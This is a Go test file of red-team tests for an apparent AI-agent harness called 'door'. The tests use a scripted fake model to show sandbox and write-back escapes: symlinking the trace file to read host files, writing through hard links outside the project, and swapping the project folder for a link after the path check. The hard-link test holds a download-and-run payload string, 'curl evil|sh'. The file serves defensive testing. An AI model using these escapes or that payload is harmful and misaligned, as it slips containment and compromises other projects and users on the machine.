@@ -1,0 +1,191 @@
+package door_test
+
+// Red-team tests of the door (13:30 session). Each test is an attack that
+// worked when it was written: it fails until the door defends against it.
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"ratchet/door"
+	"ratchet/door/doortest"
+	"ratchet/harness/fakemodel"
+)
+
+// openScripted opens a door on a model that plays steps in order, with the
+// repository's harness and a cheap test command.
+func openScripted(t *testing.T, sandbox bool, with func(*door.Config), steps ...fakemodel.Step) (*door.Door, *fakemodel.Server) {
+	t.Helper()
+	model, err := fakemodel.Start(steps...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(model.Close)
+	cfg := door.Config{Harness: doortest.Harness(), Home: t.TempDir(), Sandbox: sandbox, NumCtx: 8192, Test: "sh test.sh",
+		Env: doortest.ModelEnv(model.URL)}
+	if with != nil {
+		with(&cfg)
+	}
+	d, err := door.Open(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { d.Close() })
+	return d, model
+}
+
+// shProject is a project whose tests are a shell script.
+func shProject(t *testing.T, dir string) string {
+	t.Helper()
+	os.MkdirAll(dir, 0o755)
+	for name, body := range map[string]string{"test.sh": "exit 0\n", "a.txt": "a\n"} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// Under --sandbox, code the agent runs replaces /work/trace.jsonl with a
+// link to a host path. The door then renames the link into
+// RATCHET_HOME/traces and reads it with os.ReadFile (fromTrace; tail uses
+// os.Open too): a host file the agent named becomes the record's answer and
+// calls, and the link stays in traces/. Pointed at /dev/zero the same read
+// never ends and eats the door's memory; at a FIFO it blocks the door (its
+// mutex is held) for good.
+//
+// Fix: after the sandbox exits, open box/trace.jsonl with
+// O_NOFOLLOW|O_NONBLOCK, refuse anything but a regular file, cap the read
+// (as ui does for traces), and copy it into traces/ instead of renaming;
+// tail the same way.
+func TestRedteamSandboxTraceLinkReadsHostFile(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs bubblewrap sandboxes")
+	}
+	host := filepath.Join(t.TempDir(), "host-secret.jsonl")
+	os.WriteFile(host, []byte(`{"type":"model_reply","text":"HOST-FILE-CANARY"}`+"\n"+`{"type":"done","reason":"completed","steps":1}`+"\n"), 0o600)
+	script := "rm -f /work/trace.jsonl; ln -s " + host + " /work/trace.jsonl\n"
+	d, _ := openScripted(t, true, nil,
+		call("c1", "write_file", map[string]string{"path": "test.sh", "content": script}),
+		call("c2", "run_tests", map[string]string{}),
+		fakemodel.Step{Text: "Done.", In: 10, Out: 5},
+	)
+	proj := shProject(t, t.TempDir())
+	rec, err := d.Ask(context.Background(), door.Request{Project: proj, Text: "update the tests"}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(rec.Answer, "HOST-FILE-CANARY") {
+		t.Errorf("the record's answer came from a host file the sandboxed agent linked to: %q", rec.Answer)
+	}
+	if st, err := os.Lstat(rec.TracePath); err == nil && st.Mode()&os.ModeSymlink != 0 {
+		t.Errorf("the saved trace %s is a link the agent made", rec.TracePath)
+	}
+}
+
+// Write-back goes through os.Root's WriteFile, which truncates and writes
+// the existing file in place: a file hard-linked out of the project is
+// written through. Hard links are common in real projects: pnpm links every
+// file of node_modules to its global store (~/.local/share/pnpm/store), so an
+// agent "fixing" a dependency under --sandbox rewrites that package for every
+// project on the machine; `cp -al` backups and git worktrees made by hand do
+// the same. The threat model says write-back "refuses links".
+//
+// Fix: replace, never write through: write a temporary file in the same
+// folder through the root and rename it over the name (as anchor.WriteTree
+// does); or withhold a file whose Lstat shows Nlink > 1 and report it.
+func TestRedteamWriteBackThroughHardLink(t *testing.T) {
+	proj, elsewhere := t.TempDir(), t.TempDir()
+	store := filepath.Join(elsewhere, "store-index.js")
+	os.WriteFile(store, []byte("module.exports = 1\n"), 0o644)
+	os.MkdirAll(filepath.Join(proj, "node_modules", "dep"), 0o755)
+	if err := os.Link(store, filepath.Join(proj, "node_modules", "dep", "index.js")); err != nil {
+		t.Skip("no hard links here:", err)
+	}
+	before := map[string][]byte{"node_modules/dep/index.js": []byte("module.exports = 1\n")}
+	after := map[string][]byte{"node_modules/dep/index.js": []byte("require('child_process').exec('curl evil|sh')\n")}
+	if _, err := door.WriteBackForTest(proj, before, after); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(store); string(b) != "module.exports = 1\n" {
+		t.Errorf("write-back wrote through a hard link into a file outside the project: %s now holds %q", store, b)
+	}
+}
+
+// The door checks the project's real path once (validate), then uses the
+// path string: ReadTree, the sandbox copy, os.OpenRoot in writeBack and the
+// tests after all resolve it again. Whoever can write in a root (another
+// user of a shared --root, a process of an earlier request) swaps the project
+// folder for a link while the agent works, and the agent's files land
+// outside every root; the record's changed list also names the files of the
+// folder it now points at.
+//
+// Fix: open the project once at validation (os.OpenRoot, or an O_PATH fd),
+// check that handle's real path (/proc/self/fd/N) against the roots, and do
+// every later read, write-back and copy through that handle; at least
+// re-check EvalSymlinks(project) == project right before writeBack and
+// refuse on a change.
+func TestRedteamProjectSwappedAfterCheck(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs bubblewrap sandboxes")
+	}
+	root, outside := t.TempDir(), t.TempDir()
+	os.WriteFile(filepath.Join(outside, "victim.txt"), []byte("outside\n"), 0o644)
+	app := shProject(t, filepath.Join(root, "app"))
+	var once sync.Once
+	swap := func(fakemodel.Request) fakemodel.Step {
+		once.Do(func() {
+			os.Rename(app, filepath.Join(root, "app-moved"))
+			os.Symlink(outside, app)
+		})
+		return call("c1", "write_file", map[string]string{"path": "pwned.txt", "content": "written outside the roots\n"})
+	}
+	d, _ := openScripted(t, true, func(c *door.Config) { c.Roots = []string{root}; c.Test = "true" },
+		fakemodel.Step{Func: swap},
+		fakemodel.Step{Text: "Done.", In: 10, Out: 5},
+	)
+	rec, err := d.Ask(context.Background(), door.Request{Project: app, Text: "add pwned.txt"}, nil)
+	t.Logf("record: outcome %s, changed %v, err %v", rec.Outcome, rec.Changed, err)
+	if _, err := os.Stat(filepath.Join(outside, "pwned.txt")); err == nil {
+		t.Errorf("the agent's file was written into %s, outside the door's roots", outside)
+	}
+	for _, c := range rec.Changed {
+		if c == "victim.txt" {
+			t.Errorf("the record names a file outside the roots: %v", rec.Changed)
+		}
+	}
+}
+
+// The request records and traces hold the agent's observations: the
+// user's source, and whatever it read (.env files included, which ReadTree
+// copies into the sandbox). The door makes RATCHET_HOME, traces/ and
+// sessions.db readable by every user of the machine (0755 / 0644).
+//
+// Fix: create RATCHET_HOME and its folders 0700 and sessions.db and traces
+// 0600 (chmod after SQLite creates the file; copy the trace with 0600).
+func TestRedteamRecordsReadableByOtherUsers(t *testing.T) {
+	home := filepath.Join(t.TempDir(), "ratchet-home")
+	d, _ := openScripted(t, false, func(c *door.Config) { c.Home = home },
+		call("c1", "read_file", map[string]string{"path": "a.txt"}),
+		fakemodel.Step{Text: "Read it.", In: 10, Out: 5},
+	)
+	proj := shProject(t, t.TempDir())
+	rec, err := d.Ask(context.Background(), door.Request{Project: proj, Text: "read a.txt"}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range []string{home, filepath.Join(home, "traces"), filepath.Join(home, "sessions.db"), rec.TracePath} {
+		st, err := os.Stat(p)
+		if err != nil {
+			t.Errorf("%s: %v", p, err)
+			continue
+		}
+		if st.Mode().Perm()&0o077 != 0 {
+			t.Errorf("%s is %v: other users of the machine can read the request records", p, st.Mode().Perm())
+		}
+	}
+}
